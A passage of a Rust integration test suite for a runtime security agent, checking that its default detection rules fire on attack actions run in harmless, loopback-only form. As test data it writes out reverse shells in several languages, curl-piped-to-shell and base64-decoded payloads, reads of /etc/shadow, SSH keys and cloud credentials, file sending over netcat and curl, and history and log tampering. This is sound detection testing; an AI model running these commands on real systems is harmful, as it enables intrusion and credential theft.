//! Policy scenarios: the shipped default rules fire on real attacks (and stay quiet on a
//! normal workload), bad policy files are rejected at their exact position while the active
//! set stays, policies reload and roll back live, recorded events replay offline, and
//! detections are journaled, folded, filtered and streamed.
//!
//! Rules that except build tools by ancestry (`*/cargo`, `*/make`) would never fire for a
//! process below `cargo test`; the attacks are therefore started with `spawn_detached`, whose
//! processes are orphans reparented to init before they exec, as an intruder's would be.

use std::collections::BTreeSet;
use std::fs;
use std::io::{BufRead, BufReader};
use std::os::unix::process::ExitStatusExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::mpsc;
use std::thread;
use std::time::{Duration, Instant};

use rasp_tests::{
    agent_bin, container_cgroup, free_loopback_port, harmless_library, output_within,
    parse_json_lines, process_gone, require_root, send_signal, show, spawn_detached, unique_name,
    wait_child, wait_for, workspace_root, Agent, Cgroup, Scratch,
};
use serde_json::{json, Value};

/// How long after an action the agent may take to show its detection.
const REPORT_DEADLINE: Duration = Duration::from_secs(1);
/// How long a short-lived command may take to run.
const CHILD_DEADLINE: Duration = Duration::from_secs(10);
/// The directory watcher polls every 2 s; a change must be picked up within this.
const RELOAD_DEADLINE: Duration = Duration::from_secs(5);

// ---------------------------------------------------------------------------------------
// What the shipped policy files say, read from the YAML itself (not from the agent).

#[derive(Clone, Debug)]
struct ShippedRule {
    id: String,
    policy: String,
    policy_version: u64,
    severity: String,
    event: String,
    action: String,
}

/// The rules of `policies/*.yaml`, by a line scan of the shipped layout (top-level `name:` and
/// `version:`, rules as `- id:` items followed by their `severity:`, `event:`, `action:`).
/// `every_shipped_rule_has_a_scenario` checks the scan against the validator's rule count.
fn shipped_rules() -> Vec<ShippedRule> {
    let dir = workspace_root().join("policies");
    let mut files: Vec<PathBuf> = fs::read_dir(&dir)
        .unwrap_or_else(|err| panic!("read {}: {err}", dir.display()))
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|x| x == "yaml" || x == "yml"))
        .collect();
    files.sort();
    let mut rules = Vec::new();
    for file in files {
        let text = fs::read_to_string(&file).expect("read policy file");
        let (mut policy, mut version) = (String::new(), 0);
        let mut current: Option<ShippedRule> = None;
        for line in text.lines() {
            let trimmed = line.trim_start();
            let value = |key: &str| {
                trimmed
                    .strip_prefix(key)
                    .map(|v| v.trim().trim_matches('"').to_string())
            };
            if let Some(v) = line.strip_prefix("name:") {
                policy = v.trim().to_string();
            } else if let Some(v) = line.strip_prefix("version:") {
                version = v.trim().parse().expect("numeric policy version");
            } else if let Some(id) = value("- id:") {
                rules.extend(current.take());
                current = Some(ShippedRule {
                    id,
                    policy: policy.clone(),
                    policy_version: version,
                    severity: String::new(),
                    event: String::new(),
                    action: "alert".into(),
                });
            } else if let Some(rule) = current.as_mut() {
                if let Some(v) = value("severity:") {
                    rule.severity = v;
                } else if let Some(v) = value("event:") {
                    rule.event = v;
                } else if let Some(v) = value("action:") {
                    rule.action = v;
                }
            }
        }
        rules.extend(current.take());
    }
    rules
}

fn shipped_rule(id: &str) -> ShippedRule {
    shipped_rules()
        .into_iter()
        .find(|r| r.id == id)
        .unwrap_or_else(|| panic!("no rule `{id}` in policies/*.yaml"))
}

// ---------------------------------------------------------------------------------------
// Small helpers.

fn canonical(path: &str) -> String {
    fs::canonicalize(path)
        .unwrap_or_else(|err| panic!("canonicalize {path}: {err}"))
        .to_string_lossy()
        .into_owned()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// `None` if `program` exists, else what to install.
fn missing(program: &str, package: &str) -> Option<String> {
    (!Path::new(program).exists())
        .then(|| format!("{program} is missing: install the Debian package `{package}`"))
}

/// The program of each kernel hook family, as `status` names it.
fn programs_for(kind: &str) -> &'static [&'static str] {
    match kind {
        "file_open" => &["rasp_file_open"],
        "library_load" => &["rasp_library_load"],
        // The cgroup connect hook where it attaches (every host with cgroup v2), the
        // sys_enter_connect tracepoint otherwise.
        "connect" => &["rasp_connect4", "rasp_connect"],
        // AF_UNIX: sys_enter_connect, alone where the cgroup hooks see IPv4/6.
        "unix_connect" => &["rasp_unix_connect", "rasp_connect"],
        "exec" => &["rasp_exec"],
        "file_change" => &["rasp_file_change"],
        "ptrace" => &["rasp_ptrace"],
        "namespace" => &["rasp_namespace"],
        "mount" => &["rasp_mount"],
        "kernel_module" => &["rasp_kernel_module"],
        "bpf_load" => &["rasp_bpf"],
        "io_uring" => &["rasp_io_uring"],
        "socket" => &["rasp_socket"],
        other => panic!("no program for {other}"),
    }
}

/// Fails (never skips) when the agent has no attached program producing `kind` events.
fn require_hook(agent: &Agent, kind: &str) {
    let status = agent.status();
    let names = programs_for(kind);
    let programs = status["programs"].as_array().cloned().unwrap_or_default();
    let attached = programs
        .iter()
        .any(|p| names.iter().any(|n| p["name"] == *n) && p["state"] == "attached");
    assert!(
        attached,
        "{kind} events are not produced by this agent yet: none of {names:?} is attached; \
         programs:\n{}",
        show(&programs)
    );
}

/// `status.policy_reload_errors` (absent when there are none).
fn reload_errors(status: &Value) -> Vec<String> {
    match &status["policy_reload_errors"] {
        Value::Null => Vec::new(),
        Value::Array(errors) => errors
            .iter()
            .map(|e| {
                e.as_str()
                    .unwrap_or_else(|| panic!("not a string: {e}"))
                    .to_string()
            })
            .collect(),
        other => panic!("policy_reload_errors must be a list: {other}"),
    }
}

fn policy_listing(agent: &Agent) -> Value {
    let mut lines = agent.cli_json_lines(&["policy", "list", "--json"]);
    assert_eq!(lines.len(), 1, "policy list --json:\n{}", show(&lines));
    lines.remove(0)
}

fn active_version(agent: &Agent) -> u64 {
    let listing = policy_listing(agent);
    listing["active"]["version"]
        .as_u64()
        .unwrap_or_else(|| panic!("active.version must be a number: {listing}"))
}

fn active_policy_names(listing: &Value) -> Vec<String> {
    listing["active"]["policies"]
        .as_array()
        .unwrap_or_else(|| panic!("active.policies must be an array: {listing}"))
        .iter()
        .map(|p| p["name"].as_str().unwrap_or("?").to_string())
        .collect()
}

/// Polls `detections --json <filter>` until one satisfies `pred`; on timeout returns what
/// was received last.
fn wait_detection(
    agent: &Agent,
    filter: &[&str],
    timeout: Duration,
    pred: impl Fn(&Value) -> bool,
) -> Result<Value, Vec<Value>> {
    let mut received = Vec::new();
    wait_for(timeout, || {
        received = agent.detections(filter);
        received.iter().find(|d| pred(d)).cloned()
    })
    .ok_or(received)
}

fn by_pid(pid: u32) -> impl Fn(&Value) -> bool {
    move |d: &Value| d["process"]["pid"] == json!(pid)
}

/// Detections caused by `pid`: its own, or those of processes it started.
fn caused_by(d: &Value, pid: u32) -> bool {
    d["process"]["pid"] == json!(pid)
        || d["ancestry"]
            .as_array()
            .is_some_and(|a| a.iter().any(|p| p["pid"] == json!(pid)))
}

/// Waits for `pid` to exit (bounded), so a scenario's processes do not outlive it.
fn wait_gone(pid: u32, timeout: Duration) -> bool {
    wait_for(timeout, || process_gone(pid).then_some(())).is_some()
}

/// Problems of a default-policy detection against what its YAML says.
fn detection_problems(d: &Value, rule: &ShippedRule) -> Vec<String> {
    let mut problems = Vec::new();
    let mut expect = |what: &str, got: &Value, want: Value| {
        if *got != want {
            problems.push(format!("{what} is {got}, expected {want}"));
        }
    };
    expect("rule_id", &d["rule_id"], json!(rule.id));
    expect("policy", &d["policy"], json!(rule.policy));
    expect(
        "policy_version",
        &d["policy_version"],
        json!(rule.policy_version),
    );
    expect("mode", &d["mode"], json!("audit"));
    expect("severity", &d["severity"], json!(rule.severity));
    expect("action", &d["action"], json!(rule.action));
    let outcome = if rule.action == "alert" {
        "alerted"
    } else {
        "audited"
    };
    expect("outcome", &d["outcome"], json!(outcome));
    expect("event.kind", &d["event"]["kind"], json!(rule.event));
    expect(
        "process.pid",
        &d["process"]["pid"],
        d["event"]["pid"].clone(),
    );
    expect("count", &d["count"], json!(1));
    if !d["latency_us"].is_u64() {
        problems.push(format!("latency_us missing: {}", d["latency_us"]));
    }
    if !d["policy_set_version"].is_u64() {
        problems.push("policy_set_version missing".into());
    }
    if d["id"].as_str().is_none_or(str::is_empty) {
        problems.push("id missing".into());
    }
    if !d["time"].as_str().is_some_and(|t| t.contains('T')) {
        problems.push("time must be RFC 3339".into());
    }
    if d["ancestry"].as_array().is_none_or(Vec::is_empty) {
        problems.push(format!("ancestry is empty: {}", d["ancestry"]));
    }
    problems
}

// ---------------------------------------------------------------------------------------
// Attack cases: a real action, the rule it must trigger, and what the detection must say.

/// Whose detection a case expects.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Who {
    /// The command itself (the pid `spawn_detached` returns).
    Command,
    /// A process the command starts (a server spawning a shell).
    ChildOf,
    /// Any process below the command (a listener's shell, the reader of a pipeline).
    Descendant,
}

#[derive(Clone, Debug)]
enum ExeIs {
    /// This path, canonicalized when checked.
    Path(String),
    /// Starts with this (memfd names).
    Prefix(String),
}

#[derive(Clone, Debug)]
struct Case {
    rule: &'static str,
    /// The shell command, run detached.
    cmd: String,
    /// Run it in a cgroup named like a container's.
    container: bool,
    who: Who,
    /// The detected process's executable.
    exe: Option<ExeIs>,
    /// file_open / library_load: the path in the event.
    path: Option<String>,
    /// connect: the destination in the event.
    dest: Option<(&'static str, u16)>,
    /// (program, Debian package) the case needs.
    needs: Vec<(&'static str, &'static str)>,
    /// Rules that must not fire for the same process (checked once the expected one has).
    not_rules: Vec<&'static str>,
}

impl Case {
    fn new(rule: &'static str, cmd: impl Into<String>) -> Case {
        Case {
            rule,
            cmd: cmd.into(),
            container: false,
            who: Who::Command,
            exe: None,
            path: None,
            dest: None,
            needs: Vec::new(),
            not_rules: Vec::new(),
        }
    }
    fn in_container(mut self) -> Case {
        self.container = true;
        self
    }
    fn child(mut self) -> Case {
        self.who = Who::ChildOf;
        self
    }
    fn descendant(mut self) -> Case {
        self.who = Who::Descendant;
        self
    }
    fn exe(mut self, path: impl Into<String>) -> Case {
        self.exe = Some(ExeIs::Path(path.into()));
        self
    }
    fn exe_prefix(mut self, prefix: impl Into<String>) -> Case {
        self.exe = Some(ExeIs::Prefix(prefix.into()));
        self
    }
    fn path(mut self, path: impl Into<String>) -> Case {
        self.path = Some(path.into());
        self
    }
    fn dest(mut self, addr: &'static str, port: u16) -> Case {
        self.dest = Some((addr, port));
        self
    }
    fn needs(mut self, program: &'static str, package: &'static str) -> Case {
        self.needs.push((program, package));
        self
    }
    fn not_rule(mut self, rule: &'static str) -> Case {
        self.not_rules.push(rule);
        self
    }
}

/// Files the attack cases use, removed when dropped.
struct Fixtures {
    tmp: PathBuf,
    shm: PathBuf,
    opt: PathBuf,
    var: PathBuf,
    scratch: Scratch,
}

impl Fixtures {
    fn new() -> Fixtures {
        let mut scratch = Scratch::new();
        let tmp = scratch.unique_dir("/tmp");
        let shm = scratch.unique_dir("/dev/shm");
        let opt = scratch.unique_dir("/opt");
        let var = scratch.unique_dir("/var/lib");
        Fixtures {
            tmp,
            shm,
            opt,
            var,
            scratch,
        }
    }

    fn s(path: &Path) -> String {
        path.to_string_lossy().into_owned()
    }
}

const MEMFD_EXEC: &str =
    "/usr/bin/python3 -c 'import os; fd = os.memfd_create(\"rasp-test-memfd\", 0); \
     os.write(fd, open(\"/bin/true\", \"rb\").read()); \
     os.execv(\"/proc/self/fd/%d\" % fd, [\"rasp-test-memfd\"])'";

const PYTHON_REVERSE_SHELL: &str = "/usr/bin/python3 -c 'import socket,subprocess,os;\
     s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"127.0.0.1\",9));\
     os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);\
     subprocess.call([\"/bin/sh\",\"-i\"])'";

const PERL_REVERSE_SHELL: &str = "perl -e 'use Socket;$i=\"127.0.0.1\";$p=9;\
     socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));\
     if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");\
     open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'";

const NODE_REVERSE_SHELL: &str =
    "node -e 'const net=require(\"net\"),cp=require(\"child_process\");\
     const s=new net.Socket();s.on(\"error\",()=>process.exit(0));\
     s.connect(9,\"127.0.0.1\",()=>{const sh=cp.spawn(\"/bin/sh\",[]);\
     s.pipe(sh.stdin);sh.stdout.pipe(s);sh.stderr.pipe(s);});'";

/// Every exec-rule case. Creates the files they need in `fx`.
fn exec_cases(fx: &mut Fixtures) -> Vec<Case> {
    let tmp_payload = fx.scratch.copy("/bin/true", fx.tmp.join("payload"));
    let miner = fx.scratch.copy("/bin/true", fx.opt.join("bin/xmrig"));
    let hidden_payload = fx.scratch.copy("/bin/true", fx.tmp.join(".cache/kworker"));
    let shm_payload = fx.scratch.copy("/bin/true", fx.shm.join("payload"));
    let nginx = fx.scratch.copy("/bin/bash", fx.opt.join("sbin/nginx"));
    let php_fpm = fx.scratch.copy("/bin/bash", fx.opt.join("sbin/php-fpm8.2"));
    let postgres = fx
        .scratch
        .copy("/bin/bash", fx.opt.join("lib/postgresql/bin/postgres"));
    let redis = fx
        .scratch
        .copy("/bin/bash", fx.opt.join("bin/redis-server"));
    let java = fx.scratch.copy("/bin/bash", fx.opt.join("jvm/bin/java"));
    let fifo = fx.tmp.join("f");
    let s = Fixtures::s;
    let server_shell = "-c 'sh -c true; exit 0'";
    let (bind_port, relay_port) = (free_loopback_port(), free_loopback_port());
    let (fd_port, pipe_port) = (free_loopback_port(), free_loopback_port());
    let home_implant = {
        let home = fx.scratch.unique_dir("/home");
        fx.scratch.copy("/bin/true", home.join(".dbus-session"))
    };
    vec![
        // A bind shell: the listener hands /bin/sh the connection it accepts, whose
        // descriptors are then the socket (whatever the command lines say).
        Case::new(
            "shell-stdio-network-socket",
            format!(
                "sh -c 'nc -l -p {bind_port} -e /bin/sh & sleep 0.5; \
                 echo exit | nc -q 1 127.0.0.1 {bind_port}; wait'"
            ),
        )
        .descendant()
        .exe("/bin/sh")
        .needs("/usr/bin/nc", "netcat-traditional"),
        Case::new(
            "shell-stdio-from-network-relay",
            format!(
                "sh -c 'socat TCP-LISTEN:{relay_port},bind=127.0.0.1,reuseaddr EXEC:/bin/sh & \
                 sleep 0.5; echo exit | socat - TCP:127.0.0.1:{relay_port}; wait'"
            ),
        )
        .descendant()
        .exe("/bin/sh")
        .needs("/usr/bin/socat", "socat"),
        // Padding pushes the rest of the command line past the 4 KiB captured.
        Case::new(
            "command-line-beyond-capture",
            format!("bash -c '{}true'", " ".repeat(4200)),
        )
        .exe("/bin/bash"),
        Case::new("exec-from-tmp", s(&tmp_payload)).exe(s(&tmp_payload)),
        // A miner by its name (installed outside /tmp, so only its name tells), and one
        // renamed but pointed at a pool.
        Case::new("crypto-miner", format!("{} --version", s(&miner))).exe(s(&miner)),
        Case::new(
            "mining-pool-in-command-line",
            "true -o stratum+tcp://pool.invalid:3333 -u wallet",
        )
        .exe("/usr/bin/true"),
        Case::new("exec-from-hidden-tmp-path", s(&hidden_payload))
            .exe(s(&hidden_payload))
            .not_rule("exec-from-tmp"),
        Case::new("exec-from-dev-shm", s(&shm_payload)).exe(s(&shm_payload)),
        Case::new("exec-from-memfd", MEMFD_EXEC)
            .exe_prefix("/memfd:rasp-test-memfd")
            .needs("/usr/bin/python3", "python3"),
        Case::new(
            "reverse-shell-dev-tcp",
            "bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'",
        )
        .exe("/bin/bash"),
        Case::new("reverse-shell-netcat-exec", "nc -e /bin/sh 127.0.0.1 9")
            .exe("/usr/bin/nc")
            .needs("/usr/bin/nc", "netcat-traditional"),
        Case::new(
            "reverse-shell-busybox-netcat",
            "busybox nc 127.0.0.1 9 -e /bin/sh",
        )
        .exe("/usr/bin/busybox")
        .needs("/usr/bin/busybox", "busybox"),
        Case::new(
            "reverse-shell-socat-exec",
            "socat TCP:127.0.0.1:9 EXEC:'bash -li',pty,stderr,setsid",
        )
        .exe("/usr/bin/socat")
        .needs("/usr/bin/socat", "socat"),
        Case::new(
            "reverse-shell-fifo-pipeline",
            format!(
                "sh -c 'rm -f {f}; mkfifo {f}; cat {f} | /bin/sh -i 2>&1 | nc 127.0.0.1 9 > {f}'",
                f = s(&fifo)
            ),
        )
        .exe("/bin/sh")
        .needs("/usr/bin/nc", "netcat-traditional"),
        Case::new("reverse-shell-scripting-one-liner", PYTHON_REVERSE_SHELL)
            .exe("/usr/bin/python3")
            .needs("/usr/bin/python3", "python3"),
        Case::new("reverse-shell-scripting-one-liner", PERL_REVERSE_SHELL)
            .exe("/usr/bin/perl")
            .needs("/usr/bin/perl", "perl"),
        Case::new("reverse-shell-scripting-one-liner", NODE_REVERSE_SHELL)
            .exe("/usr/bin/node")
            .needs("/usr/bin/node", "nodejs"),
        Case::new(
            "shell-from-web-server",
            format!("{} {server_shell}", s(&nginx)),
        )
        .child()
        .exe("/bin/sh"),
        Case::new(
            "shell-from-web-server",
            format!("{} {server_shell}", s(&php_fpm)),
        )
        .child()
        .exe("/bin/sh"),
        Case::new(
            "shell-from-database",
            format!("{} {server_shell}", s(&postgres)),
        )
        .child()
        .exe("/bin/sh"),
        Case::new(
            "shell-from-database",
            format!("{} {server_shell}", s(&redis)),
        )
        .child()
        .exe("/bin/sh"),
        Case::new(
            "shell-from-app-runtime-in-container",
            format!("{} {server_shell}", s(&java)),
        )
        .in_container()
        .child()
        .exe("/bin/sh"),
        Case::new(
            "shell-from-app-runtime-in-container",
            "node -e 'require(\"child_process\").execFileSync(\"/bin/sh\", [\"-c\", \"true\"])'",
        )
        .in_container()
        .child()
        .exe("/bin/sh")
        .needs("/usr/bin/node", "nodejs"),
        Case::new("package-manager-in-container", "apt-get --version")
            .in_container()
            .exe("/usr/bin/apt-get"),
        Case::new("package-manager-in-container", "dpkg --version")
            .in_container()
            .exe("/usr/bin/dpkg"),
        Case::new(
            "language-package-install-in-container",
            "/usr/bin/pip3 install --help",
        )
        .in_container()
        .needs("/usr/bin/pip3", "python3-pip"),
        Case::new(
            "language-package-install-in-container",
            "/usr/bin/npm install --help",
        )
        .in_container()
        .needs("/usr/bin/npm", "npm"),
        Case::new("compiler-in-container", "gcc --version")
            .in_container()
            .exe("/usr/bin/gcc")
            .needs("/usr/bin/gcc", "gcc"),
        Case::new("compiler-in-container", "make --version")
            .in_container()
            .exe("/usr/bin/make")
            .needs("/usr/bin/make", "make"),
        // bash's /dev/tcp handed to `cat`: the socket is on cat's stdin, below the shell.
        Case::new(
            "shell-hands-socket-to-program",
            format!(
                "bash -c 'nc -l -p {fd_port} -q 0 < /dev/null > /dev/null & sleep 0.3; \
                 exec 5<>/dev/tcp/127.0.0.1/{fd_port}; cat <&5 > /dev/null; wait'"
            ),
        )
        .descendant()
        .exe("/usr/bin/cat")
        .needs("/usr/bin/nc", "netcat-traditional"),
        // A shell's output piped into netcat (the second half of the fifo reverse shell).
        Case::new(
            "shell-output-piped-to-network-tool",
            format!(
                "sh -c 'nc -l -p {pipe_port} -q 0 < /dev/null > /dev/null & sleep 0.3; \
                 /bin/sh -c \"echo id\" | nc -q 0 127.0.0.1 {pipe_port}; wait'"
            ),
        )
        .descendant()
        .exe("/usr/bin/nc")
        .needs("/usr/bin/nc", "netcat-traditional"),
        Case::new(
            "awk-network-special-file",
            "gawk 'BEGIN { s = \"/inet/tcp/0/127.0.0.1/9\"; printf \"\" |& s; close(s) }'",
        )
        .exe("/usr/bin/gawk")
        .needs("/usr/bin/gawk", "gawk"),
        Case::new("exec-hidden-file-in-home", s(&home_implant)).exe(s(&home_implant)),
    ]
}

/// Every file_open-rule case (the files are made in `fx`, or recorded for removal).
fn file_cases(fx: &mut Fixtures) -> Vec<Case> {
    let s = Fixtures::s;
    let key = PathBuf::from("/root/.ssh").join(unique_name("id_rasp_test"));
    fx.scratch.file(
        &key,
        b"-----BEGIN OPENSSH PRIVATE KEY-----\nnot a key\n",
        0o600,
    );
    let aws = fx
        .scratch
        .file(fx.var.join("home/.aws/credentials"), b"[default]\n", 0o600);
    let token = Path::new("/var/run/secrets/kubernetes.io/serviceaccount/token");
    if !token.exists() {
        fx.scratch.file(token, b"rasp-test-token\n", 0o600);
    }
    let etc_file = PathBuf::from("/etc").join(unique_name("rasp-test"));
    let usr_file = PathBuf::from("/usr/local/bin").join(unique_name("rasp-test"));
    let profile = PathBuf::from("/etc/profile.d").join(format!("{}.sh", unique_name("rasp-test")));
    // Created by the cases' own processes; removed with the fixtures.
    for p in [&etc_file, &usr_file, &profile] {
        fx.scratch.adopt(p);
    }
    let preload = Path::new("/etc/ld.so.preload");
    if !preload.exists() {
        fx.scratch.adopt(preload);
    }
    let cron_link = PathBuf::from("/etc/cron.d").join(unique_name("rasp-test"));
    fx.scratch.adopt(&cron_link);
    vec![
        // A symlink is no open for writing: only the file-change hook sees it.
        Case::new(
            "persistence-file-replaced",
            format!("ln -s /dev/null {}", s(&cron_link)),
        )
        .exe("/usr/bin/ln")
        .path(s(&cron_link)),
        Case::new("read-shadow-file", "cat /etc/shadow")
            .exe("/bin/cat")
            .path("/etc/shadow"),
        Case::new("read-ssh-private-key", format!("cat {}", s(&key)))
            .exe("/bin/cat")
            .path(s(&key)),
        Case::new("read-cloud-credentials", format!("cat {}", s(&aws)))
            .exe("/bin/cat")
            .path(s(&aws)),
        Case::new(
            "read-service-account-token-by-tool",
            format!("cat {}", s(token)),
        )
        .exe("/bin/cat")
        .path(canonical_or_same(token)),
        Case::new("write-below-etc", format!("touch {}", s(&etc_file)))
            .exe("/usr/bin/touch")
            .path(s(&etc_file)),
        Case::new("write-below-binary-dirs", format!("touch {}", s(&usr_file)))
            .exe("/usr/bin/touch")
            .path(s(&usr_file)),
        Case::new(
            "write-persistence-location",
            format!("touch {}", s(&profile)),
        )
        .exe("/usr/bin/touch")
        .path(s(&profile)),
        // Opened for appending, nothing written: an existing file is left as it was.
        Case::new("write-ld-so-preload", "sh -c ': >> /etc/ld.so.preload'")
            .exe("/bin/sh")
            .path("/etc/ld.so.preload"),
        // Searches for keys and passwords (of a scratch tree: what they find is not read).
        Case::new(
            "credential-search",
            format!("find {} -name id_rsa", s(&fx.tmp)),
        )
        .exe("/usr/bin/find"),
        Case::new(
            "password-search",
            format!("grep -ri password {}", s(&fx.tmp)),
        )
        .exe("/usr/bin/grep"),
    ]
}

/// A pid with no process (`strace -p`/`dd if=/proc/N/mem` on it fail after their exec).
fn absent_pid() -> u32 {
    (4_190_000..4_194_000)
        .find(|n| !Path::new(&format!("/proc/{n}")).exists())
        .expect("a free pid number")
}

/// The cases of the technique policies (download-execute, user-persistence,
/// privilege-escalation, defense-evasion, process-memory, container-escape,
/// kernel-modules): each does the real thing in a harmless form — modes set on scratch
/// copies, a scratch HOME's start-up files, writes that append nothing, tools pointed at
/// absent pids, modules and units, and `--help` forms for the namespace tools, whose rules
/// match on argv alone.
fn technique_cases(fx: &mut Fixtures) -> Vec<Case> {
    let s = Fixtures::s;
    let home = fx.tmp.join("home");
    let bashrc = fx
        .scratch
        .file(home.join(".bashrc"), b"# rasp test\n", 0o644);
    let profile = fx
        .scratch
        .file(home.join(".profile"), b"# rasp test\n", 0o644);
    let zsh_history = fx.scratch.file(home.join(".zsh_history"), b"ls\n", 0o600);
    let script = fx.scratch.file(fx.tmp.join("run.sh"), b"exit 0\n", 0o644);
    let suid = fx.scratch.copy("/bin/true", fx.tmp.join("suid-copy"));
    let suid_octal = fx.scratch.copy("/bin/true", fx.tmp.join("suid-octal-copy"));
    let capped = fx.scratch.copy("/bin/true", fx.tmp.join("cap-copy"));
    let log = PathBuf::from("/var/log").join(format!("{}.log", unique_name("rasp-test")));
    fx.scratch.adopt(&log);
    let absent_log = PathBuf::from("/var/log").join(format!("{}.log", unique_name("rasp-test")));
    let state = fx.scratch.unique_dir("/var/lib/rasp").join("journal");
    let crio = Path::new("/run/crio/crio.sock");
    if !crio.exists() {
        // A regular file where CRI-O's socket would be: opening it is the probe.
        fx.scratch.file(crio, b"", 0o600);
    }
    let sock = s(&fx.tmp.join("docker.sock"));
    let attr_file = fx.scratch.file(fx.tmp.join("locked.conf"), b"x\n", 0o644);
    let nopid = absent_pid();
    let (nc_port, cat_port, socat_port) = (
        free_loopback_port(),
        free_loopback_port(),
        free_loopback_port(),
    );
    let socket_curl = format!("curl -s -m 1 --unix-socket {sock} http://localhost/version");
    let mut cases = vec![
        Case::new(
            "download-piped-to-shell",
            "sh -c 'curl -s -m 1 http://127.0.0.1:9/i.sh | sh'",
        )
        .exe("/bin/sh")
        .needs("/usr/bin/curl", "curl"),
        Case::new(
            "download-substituted-into-shell",
            "sh -c 'bash -c \"$(curl -s -m 1 http://127.0.0.1:9/i.sh)\"'",
        )
        .exe("/bin/sh")
        .needs("/usr/bin/curl", "curl"),
        Case::new(
            "decoded-payload-to-shell",
            "sh -c 'echo dHJ1ZQo= | base64 -d | sh'",
        )
        .exe("/bin/sh"),
        Case::new(
            "decoded-payload-substituted-into-shell",
            "sh -c 'eval \"$(echo dHJ1ZQo= | base64 -d)\"'",
        )
        .exe("/bin/sh"),
        Case::new(
            "interpreter-inline-fetch-or-decode",
            "/usr/bin/python3 -c 'import base64; exec(base64.b64decode(\"cGFzcw==\"))'",
        )
        .exe("/usr/bin/python3")
        .needs("/usr/bin/python3", "python3"),
        Case::new("script-from-writable-dir", format!("sh {}", s(&script))).exe("/bin/sh"),
        Case::new(
            "write-user-startup-file",
            format!("sh -c ': >> {}'", s(&bashrc)),
        )
        .exe("/bin/sh")
        .path(s(&bashrc)),
        // stdin is /dev/null: a scripted edit, not a person at a terminal.
        Case::new(
            "startup-file-edited-without-terminal",
            format!("vim.basic -u NONE -i NONE -n -Es -c wq {}", s(&profile)),
        )
        .exe("/usr/bin/vim.basic")
        .needs("/usr/bin/vim.basic", "vim"),
        Case::new("script-from-descriptor", "bash -c 'bash <(echo true)'")
            .descendant()
            .exe("/bin/bash"),
        Case::new(
            "shell-escape-from-program",
            "find /etc/hostname -exec /bin/sh \\; -quit",
        )
        .child()
        .exe("/bin/sh"),
        Case::new("privileged-mode-shell", "bash -p -c true").exe("/bin/bash"),
        Case::new(
            "interpreter-inline-shell-escape",
            "perl -e 'exec \"/bin/sh\";'",
        )
        .exe("/usr/bin/perl"),
        Case::new("sudo-user-id-bypass", "sudo -n -u#-1 true")
            .exe("/usr/bin/sudo")
            .needs("/usr/bin/sudo", "sudo"),
        // --help: the command line of a second root account, without making one.
        Case::new(
            "uid-zero-account-created",
            "useradd --help -o -u 0 backdoor",
        )
        .exe("/usr/sbin/useradd"),
        Case::new(
            "privileged-file-discovery",
            "find /usr/bin -maxdepth 1 -perm -4000 -type f",
        )
        .exe("/usr/bin/find"),
        // Files sent to a listener of the case's own on loopback.
        Case::new(
            "file-redirected-to-netcat",
            format!(
                "sh -c 'nc -l -p {nc_port} -q 0 < /dev/null > /dev/null & sleep 0.3; \
                 nc -q 0 127.0.0.1 {nc_port} < /etc/hostname; wait'"
            ),
        )
        .descendant()
        .exe("/usr/bin/nc")
        .needs("/usr/bin/nc", "netcat-traditional"),
        Case::new(
            "file-piped-to-netcat",
            format!(
                "sh -c 'nc -l -p {cat_port} -q 0 < /dev/null > /dev/null & sleep 0.3; \
                 cat /etc/hostname | nc -q 0 127.0.0.1 {cat_port}; wait'"
            ),
        )
        .descendant()
        .exe("/usr/bin/nc")
        .needs("/usr/bin/nc", "netcat-traditional"),
        Case::new(
            "file-sent-by-socat",
            format!(
                "sh -c 'socat -u TCP-LISTEN:{socat_port},bind=127.0.0.1,reuseaddr - > /dev/null & \
                 sleep 0.3; socat -u FILE:/etc/hostname TCP:127.0.0.1:{socat_port}; wait'"
            ),
        )
        .descendant()
        .exe("/usr/bin/socat")
        .needs("/usr/bin/socat", "socat"),
        Case::new(
            "sensitive-file-uploaded-by-http-client",
            "curl -s -m 1 -F f=@/etc/hostname http://127.0.0.1:9/u",
        )
        .exe("/usr/bin/curl")
        .needs("/usr/bin/curl", "curl"),
        Case::new("port-scan-by-netcat", "nc -z -w 1 127.0.0.1 1-3")
            .exe("/usr/bin/nc")
            .needs("/usr/bin/nc", "netcat-traditional"),
        Case::new("setuid-bit-set", format!("chmod u+s {}", s(&suid))).exe("/usr/bin/chmod"),
        Case::new(
            "setuid-bit-set-octal",
            format!("chmod 4755 {}", s(&suid_octal)),
        )
        .exe("/usr/bin/chmod"),
        Case::new(
            "file-capability-set",
            format!("setcap cap_net_bind_service+ep {}", s(&capped)),
        )
        .exe("/usr/sbin/setcap")
        .needs("/usr/sbin/setcap", "libcap2-bin"),
        Case::new(
            "shell-history-tampering",
            format!("ln -sf /dev/null {}", s(&home.join(".bash_history"))),
        )
        .exe("/usr/bin/ln"),
        Case::new("shell-history-disabled", "sh -c 'unset HISTFILE; true'").exe("/bin/sh"),
        Case::new(
            "shell-history-truncated-by-command",
            format!("sh -c ': > {}'", s(&zsh_history)),
        )
        .exe("/bin/sh")
        .path(s(&zsh_history)),
        Case::new(
            "log-deleted-or-truncated",
            format!("rm -f {}", s(&absent_log)),
        )
        .exe("/usr/bin/rm"),
        Case::new("log-truncated-on-open", format!("sh -c ': > {}'", s(&log)))
            .exe("/bin/sh")
            .path(s(&log)),
        Case::new(
            "timestamp-forged",
            format!("touch -d 2001-01-01 {}", s(&fx.var.join("stamp"))),
        )
        .exe("/usr/bin/touch"),
        Case::new(
            "audit-disabled",
            format!("systemctl stop {}.service", unique_name("rasp-test-absent")),
        )
        .exe("/usr/bin/systemctl")
        .needs("/usr/bin/systemctl", "systemd"),
        Case::new(
            "audit-or-agent-state-tampering",
            format!("sh -c ': >> {}'", s(&state)),
        )
        .exe("/bin/sh")
        .path(s(&state)),
        // /proc/1 is not readable on every host (this VM denies it): the victim is a
        // `sleep` of the case's own.
        Case::new(
